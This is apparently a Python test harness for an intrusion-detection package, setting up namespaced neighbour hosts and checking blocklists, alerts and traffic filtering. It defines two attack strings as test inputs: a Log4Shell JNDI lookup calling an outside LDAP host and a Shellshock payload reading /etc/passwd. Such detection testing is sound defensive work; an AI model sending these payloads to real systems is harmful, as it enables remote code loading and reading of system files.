"""One machine and its neighbours, and what steps are made of."""

from __future__ import annotations

import json
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from tests.packages.machine import Failed, Machine, host
from tests.packages.page import Command

TRAFFIC = Path(__file__).with_name("traffic.py")
MACHINE, PEER, GOOD, BAD, ATTACKER = "192.0.2.1", "192.0.2.254", "192.0.2.50", "192.0.2.66", "192.0.2.77"
EXPLOIT = "${jndi:ldap://198.51.100.9/a}"
OTHER_EXPLOIT = "() { :; }; /bin/cat /etc/passwd"
REQUEST = """
import http.client, sys
_, server, source, agent = sys.argv
client = http.client.HTTPConnection(server, 8080, timeout=3, source_address=(source, 0))
client.request("GET", "/", headers={"User-Agent": agent})
print(client.getresponse().status)
"""
PATIENCE_S = 60.0


def expect(holds: bool, what: str) -> None:
    """Raise `Failed` unless something holds."""
    if not holds:
        raise Failed(what)


def soon(condition: Callable[[], bool], what: str, patience_s: float = PATIENCE_S) -> None:
    """Wait for a condition; raises `Failed`."""
    deadline = time.monotonic() + patience_s
    while not condition():
        if time.monotonic() > deadline:
            raise Failed(f"after {patience_s:g} s: {what}")
        time.sleep(0.2)


class Scene:
    """A machine of one distribution, the package, and the same under a later version."""

    def __init__(self, machine: Machine, package: Path, newer: Path) -> None:
        self.machine = machine
        self.package, self.newer = package, newer
        self.neighbours = f"n{machine.root.name[-8:]}"

    def do(self, command: Command) -> str:
        """Run a line of the page where it says; return what was printed. An attacker need not succeed."""
        if not command.address:
            return self.machine.shell(f"cd /root; {command.text}")
        enter = ("ip", "netns", "exec", self.neighbours)
        host("ip", "-n", self.neighbours, "route", "replace", "192.0.2.0/24", "dev", "wire", "src", command.address)
        return host(*enter, "sh", "-c", command.text, check=False)

    def boot(self, *, link: bool = True) -> None:
        """Boot the machine; ``link``: with its interface and neighbours."""
        self.machine.boot()
        if link:
            self.link()

    def link(self) -> None:
        """Give the machine an interface ``outside``, and put its neighbours behind it."""
        host("ip", "netns", "add", self.neighbours)
        end = f"e{self.neighbours}"[:15]
        host("ip", "link", "add", end, "type", "veth", "peer", "name", "wire", "netns", self.neighbours)
        host("ip", "link", "set", end, "netns", self.machine.init, "name", "outside")
        self.machine.shell(
            f"ip address add {MACHINE}/24 dev outside; ip link set outside up; ip route replace default via {PEER}"
        )
        inside = ("ip", "-n", self.neighbours)
        for address in (PEER, GOOD, BAD, ATTACKER):
            host(*inside, "address", "add", f"{address}/24", "dev", "wire")
        host(*inside, "link", "set", "wire", "up")

    def unlink(self) -> None:
        """Take the interface and the neighbours away, where they are."""
        host("ip", "netns", "delete", self.neighbours, check=False)

    def offer(self, package: Path) -> None:
        """Put a package where the page says that it lies, alone."""
        for former in self.machine.root.glob("root/ids_*.deb"):
            former.unlink()
        (self.machine.root / "root" / package.name).write_bytes(package.read_bytes())

    def install_newer(self) -> None:
        """Install the later version, again."""
        self.machine.run("dpkg", "-i", f"/root/{self.newer.name}")

    def blocked(self) -> list[str]:
        """Return the networks on the blocklist."""
        return [json.loads(line)["network"] for line in self.machine.run("ids", "block", "list", "--json").splitlines()]

    def alerts(self) -> list[int]:
        """Return the rules of the attacker's alerts, as the memory has them."""
        lines = self.machine.run("ids", "alerts", "list", "--src", ATTACKER, "-o", "json").splitlines()
        return [json.loads(line)["event"]["alert"]["signature_id"] for line in lines]

    def served(self, source: str, agent: str = "tests") -> bool:
        """Ask the machine's web server for a page; return whether it came."""
        enter = ("ip", "netns", "exec", self.neighbours, sys.executable)
        return host(*enter, "-c", REQUEST, MACHINE, source, agent, check=False).strip() == "200"

    def unit(self, name: str, unit: str = "ids") -> str:
        """Return what systemd has under a name for a service."""
        return self.machine.run("systemctl", "show", unit, f"--property={name}", "--value", check=False).strip()

    def traffic(self, meanwhile: Callable[[], object]) -> tuple[dict[str, int], dict[str, int]]:
        """Send datagrams while something is done; return how many were sent and how many came, by source."""
        with tempfile.TemporaryDirectory() as folder:
            until = Path(folder, "until")
            enter = ("nsenter", "-t", self.machine.init, "-n", sys.executable, str(TRAFFIC))
            receiver = subprocess.Popen([*enter, "receive", MACHINE, str(until)], stdout=subprocess.PIPE, text=True)
            assert receiver.stdout is not None
            receiver.stdout.readline()
            enter = ("ip", "netns", "exec", self.neighbours, sys.executable, str(TRAFFIC))
            sender = subprocess.Popen(
                [*enter, "send", MACHINE, str(until), GOOD, BAD], stdout=subprocess.PIPE, text=True
            )
            try:
                time.sleep(1.0)
                meanwhile()
                time.sleep(1.0)
            finally:
                until.touch()
                sent, came = sender.communicate()[0], receiver.communicate()[0]
        return json.loads(sent), json.loads(came)

    def judge(self, sent: dict[str, int], came: dict[str, int]) -> None:
        """Raise `Failed` where a datagram of the blocked source came, or one of the other did not."""
        expect(not came.get(BAD), f"{came.get(BAD)} of {sent[BAD]} datagrams of the blocked source passed")
        expect(came.get(GOOD) == sent[GOOD], f"{came.get(GOOD)} of {sent[GOOD]} datagrams of the other source came")
